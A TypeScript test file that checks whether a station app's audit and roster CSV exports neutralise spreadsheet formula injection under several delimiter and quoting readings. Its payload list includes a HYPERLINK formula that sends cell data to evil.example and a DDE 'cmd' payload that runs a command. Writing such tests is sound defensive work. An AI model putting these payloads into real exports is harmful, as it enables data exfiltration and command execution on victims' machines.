/**
 * Spreadsheet formula injection in every CSV the station writes (audit and "who has what"). A
 * Swedish Excel splits at `;`, an English one at `,`; a sloppy reader ignores quotes. Whatever
 * the reader, no cell may start with = + - @ TAB or CR (docs/SECURITY-REVIEW.md).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openStationHost } from '../../../main/api';
import { MemorySettingsStore } from '../../../main/api/settings';
import { ManualClock } from '../../../main/station/clock';
import type { StationHost } from '../../../main/api/station-host';
import { csvLine } from '../../../main/station/csv';
import { contractCaller, firstRunSetup } from './contract-caller';

const PASSWORD = 'a-long-operator-password';
const LIVE = /^[=+\-@\t\r]/;
const HOSTILE = [
  'x;=HYPERLINK("http://evil.example/?"&A1;"klicka")',
  "x,=cmd|' /C calc'!A0",
  'a\n=1+1',
  'a\r\n@SUM(1;2)',
  '"=1+1',
  'x;"=2+2',
  'x; +3',
  '\t=4',
  '-5',
];

/** Every cell the export yields under each reading a spreadsheet might use. */
function cellsUnderEveryReading(csv: string): string[] {
  const cells: string[] = [];
  for (const delimiter of [',', ';']) {
    for (const quote of ['"', false] as const) {
      const rows = parse(csv, {
        delimiter,
        quote,
        relax_quotes: true,
        relax_column_count: true,
        skip_empty_lines: true,
      }) as string[][];
      for (const row of rows) for (const cell of row) cells.push(cell);
    }
  }
  return cells;
}

/** A reader that ignores quotes still strips them (and spaces) before deciding "formula". */
function liveCells(csv: string): string[] {
  return cellsUnderEveryReading(csv).filter((c) => LIVE.test(c.replace(/^[ "]+/, '')));
}

describe('CSV exports never start a live cell', () => {
  it('csvLine neutralises after separators, quotes and line breaks', () => {
    const csv = HOSTILE.map((v) => csvLine([v, 'ok'])).join('\r\n');
    expect(liveCells(csv)).toEqual([]);
    // Still a proper CSV: a quote-aware reader with the right separator gets one cell per field.
    const rows = parse(csv, { delimiter: ',' }) as string[][];
    expect(rows.map((r) => r.length)).toEqual(HOSTILE.map(() => 2));
    expect(rows[0][0]).toContain('HYPERLINK');
  });

  describe('through the station host', () => {
    let dir: string;
    let host: StationHost;
    const clock = new ManualClock(Date.now());
    const { value, code } = contractCaller(() => host);

    beforeEach(async () => {
      dir = mkdtempSync(join(tmpdir(), 'ks-csv-'));
      host = await openStationHost({
        clock,
        dataDir: dir,
        demo: true,
        settings: new MemorySettingsStore(),
        host: 'browser',
        version: 'test',
      });
      await value(
        'operator.setup',
        firstRunSetup('demo', { username: 'op.csv', rpId: 'demo.keystation.local' }),
      );
    });

    afterEach(async () => {
      await host.close();
      rmSync(dir, { recursive: true, force: true });
    });

    it('a user name typed at a failed sign-in stays inert in the audit CSV', async () => {
      await value('operator.signOut', {});
      for (const username of HOSTILE.slice(0, 3)) {
        expect(
          await code('operator.signInWithPassword', { username, password: 'wrong-password-1' }),
        ).not.toBeNull();
      }
      // Three wrong passwords from one client: the next attempt waits a second (the backoff).
      clock.advance(1000);
      await value('operator.signInWithPassword', { username: 'op.csv', password: PASSWORD });
      const { csv } = await value<{ csv: string }>('audit.exportCsv', {});
      expect(csv).toContain('HYPERLINK');
      expect(liveCells(csv)).toEqual([]);
    });

    it('a display name stays inert in the methods report', async () => {
      await value('roster.create', {
        upn: 'evil@demo.keystation.local',
        displayName: 'Eve;=HYPERLINK("http://evil.example")',
        department: 'x;@SUM(1)',
        email: '',
        mobile: '',
      });
      const { csv } = await value<{ csv: string }>('roster.exportReport', {});
      expect(liveCells(csv)).toEqual([]);
    });
  });
});
